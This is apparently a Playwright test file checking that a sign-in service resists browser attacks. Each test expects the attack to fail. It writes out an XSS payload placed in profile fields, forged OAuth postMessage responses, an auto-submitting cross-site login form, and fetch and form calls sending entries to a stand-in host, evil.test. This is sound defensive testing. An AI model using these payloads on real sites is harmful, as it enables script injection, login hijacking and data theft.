import { type Browser, chromium as engine, type Page } from "playwright"
import { rolldown } from "rolldown"
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from "vitest"
import { chromium } from "../../scripts/chromium.mjs"
import type { Victim } from "./attacksPage.ts"
import { type Hosted, startHosted } from "./Hosted.ts"
import { ada, atTheShop, signIn } from "./person.ts"

let browser: Browser
let hosted: Hosted
let page: Page
let script: string

const payload = `<img src=x onerror="window.pwned=1"><script>window.pwned=1</script>"' onfocus=window.pwned=1 autofocus`

beforeAll(async () => {
  const input = new URL("attacksPage.ts", import.meta.url).pathname
  const build = await rolldown({ input, platform: "browser", logLevel: "silent" })
  const { output } = await build.generate({ format: "iife", minify: true })
  await build.close()
  script = output[0].code
  const profile = { firstName: payload, lastName: payload }
  ;[hosted, browser] = await Promise.all([
    startHosted({ members: [{ ...ada, profile }], registration: "ownerApproval" }),
    engine.launch(chromium())
  ])
})

afterAll(async () => {
  await browser?.close()
  await hosted?.stop()
})

beforeEach(async () => {
  page = await (await browser.newContext()).newPage()
})

afterEach(() => page.context().close())

const html = (body: string, headers: Record<string, string> = {}) => ({
  contentType: "text/html; charset=utf-8",
  headers,
  body: `<!doctype html><title>x</title>${body}`
})

/**
 * Opens the victim's page with an identity service whose silent page runs this script. Returns the codes that were
 * exchanged.
 */
const victim = async (silent: (state: string) => string) => {
  const codes: Array<string> = []
  let state = ""
  const cors = { "access-control-allow-origin": "*", "access-control-allow-headers": "*" }
  await page.context().route("https://id.test/**", async (route) => {
    const { pathname } = new URL(route.request().url())
    const body = route.request().postDataJSON?.() ?? {}
    const json = (value: object) =>
      route.fulfill({ contentType: "application/json", headers: cors, body: JSON.stringify(value) })
    if (route.request().method() === "OPTIONS") return route.fulfill({ status: 204, headers: cors })
    if (pathname.endsWith("/oauth2/token")) {
      if (body.code !== undefined) codes.push(body.code)
      return json({ access_token: "A", refresh_token: `R${codes.length}`, expires_in: 3600 })
    }
    if (pathname.endsWith("/redirect-session")) {
      state = body.auth.authRequest.state
      return json({ redirectSession: { fullUrl: "https://id.test/silent" } })
    }
    if (pathname === "/silent") return route.fulfill(html(`<script>${silent(state)}</script>`))
    // The attacker knows the state, from any source.
    return route.fulfill(html(`<script>${pathname === "/answer" ? answer(state) : forge(state)}</script>`))
  })
  await page.context().route("https://evil.test/**", (route) => route.fulfill(html(`<script>${forge(state)}</script>`)))
  await page.exposeFunction("stateOf", () => state)
  await page.route("https://shop.test/", (route) => route.fulfill(html("")))
  await page.goto("https://shop.test/")
  await page.evaluate(script)
  return codes
}

const login = () => page.evaluate(() => (globalThis as unknown as { readonly victim: Victim }).victim.login())

const answer = (state: string) =>
  `parent.postMessage({ type: "ready", storage: true }, "*"); parent.postMessage({ code: "CODE", state: "${state}" }, "*")`

const slowAnswer = (state: string) =>
  `parent.postMessage({ type: "ready", storage: true }, "*"); setTimeout(() => { ${answer(state)} }, 400)`

const forge = (state: string) =>
  `setInterval(() => { for (const one of [parent, top, opener]) one?.postMessage({ code: "EVIL", state: "${state}" }, "*") }, 5)
   if (parent !== self) setTimeout(() => { if (location.search === "?back") location = "https://id.test/answer" }, 200)`

const frameOf = (url: string) => {
  const frame = document.createElement("iframe")
  // Repeats, so that the page receives the state of the pending login.
  setInterval(() => (frame.src = url), 100)
  document.body.append(frame)
}

describe("a message with the correct state that forges a silent login's response in Chromium", () => {
  it("is ignored from a frame of another site", async () => {
    const codes = await victim(slowAnswer)
    await page.evaluate(frameOf, "https://evil.test/")

    expect([await login(), codes]).toEqual(["signed in", ["CODE"]])
  })

  it("is ignored from another frame, even of the provider's site", async () => {
    const codes = await victim(slowAnswer)
    await page.evaluate(frameOf, "https://id.test/other")

    expect([await login(), codes]).toEqual(["signed in", ["CODE"]])
  })

  it("is ignored from a window that the page opened, even of the provider", async () => {
    const codes = await victim(slowAnswer)
    await page.evaluate(() => {
      const popup = window.open("https://id.test/other", "popup")
      setInterval(() => popup && (popup.location = "https://id.test/other"), 100)
    })

    expect([await login(), codes]).toEqual(["signed in", ["CODE"]])
  })

  it("is ignored from a frame inside the provider's page", async () => {
    const codes = await victim(
      (state) => `document.write("<iframe src='https://id.test/other'></iframe>"); ${slowAnswer(state)}`
    )

    expect([await login(), codes]).toEqual(["signed in", ["CODE"]])
  })

  it("is ignored from the same frame after it navigated to another site", async () => {
    const codes = await victim(() => `location = "https://evil.test/?back"`)

    expect([await login(), codes]).toEqual(["signed in", ["CODE"]])
  })

  it("is ignored from the page itself", async () => {
    const codes = await victim(slowAnswer)
    await page.evaluate(() => {
      const { stateOf } = globalThis as unknown as { readonly stateOf: () => Promise<string> }
      setInterval(async () => window.postMessage({ code: "EVIL", state: await stateOf() }, "*"), 20)
    })

    expect([await login(), codes]).toEqual(["signed in", ["CODE"]])
  })
})

describe("the hosted pages in Chromium", () => {
  it("show nothing in a frame, even on the site that they return to", async () => {
    const address = await hosted.signInAddress()
    await page.goto(hosted.site)
    await page.evaluate(async (url) => {
      const frame = document.createElement("iframe")
      frame.src = url
      const loaded = new Promise((resolve) => frame.addEventListener("load", resolve))
      document.body.append(frame)
      await loaded
    }, address)

    const [, frame] = page.frames()
    expect([frame?.url(), await frame?.locator("form").count()]).toEqual(["chrome-error://chromewebdata/", 0])
  })

  it("reject a form that another site submits", async () => {
    const address = await hosted.signInAddress()
    await page.goto(address)
    await page.route("http://evil.test/", (route) =>
      route.fulfill(
        html(`<form method="post" action="${address}"><input name="email" value="${ada.email}" /><input name="password"
          value="${ada.password}" /><input name="action" value="sign-in" /></form><script>document.forms[0].submit()</script>`)
      )
    )

    const posted = page.waitForResponse((response) => response.request().method() === "POST")
    await page.goto("http://evil.test/").catch(() => undefined)

    expect((await posted).status()).toBe(403)
    expect((await page.context().cookies()).map(({ name }) => name)).not.toContain("portico")
  })

  it("do not run scripts from a member's profile or injected markup", async () => {
    await page.goto(await hosted.signInAddress())
    await signIn(page, ada)
    await atTheShop(page)
    await page.goto(await hosted.signInAddress())
    await page.getByText(payload.slice(0, 20)).first().waitFor()

    await page.evaluate(() => {
      const slipped = document.createElement("script")
      slipped.textContent = "window.pwned = 1"
      document.body.append(slipped)
      document.body.insertAdjacentHTML("beforeend", `<img src="x" onerror="window.pwned = 1" />`)
    })

    expect(
      await page.evaluate(() => ["pwned" in window, document.cookie, document.querySelectorAll("main img").length])
    ).toEqual([false, "", 0])
  })

  it("prevent scripts from sending entries to other sites", async () => {
    await page.route("http://evil.test/**", (route) =>
      route.fulfill({ headers: { "access-control-allow-origin": "*" }, body: "thank you" })
    )
    await page.goto(await hosted.signInAddress())

    const told = await page.evaluate(async () => {
      const call = await fetch("http://evil.test/?typed").then(
        () => "sent",
        () => "kept"
      )
      const blocked = new Promise((resolve) => {
        document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => {
          if (effectiveDirective === "form-action") resolve("kept")
        })
      })
      const [form] = document.forms
      form?.setAttribute("action", "http://evil.test/")
      form?.submit()
      return [call, await blocked]
    })

    expect(told).toEqual(["kept", "kept"])
  })
})
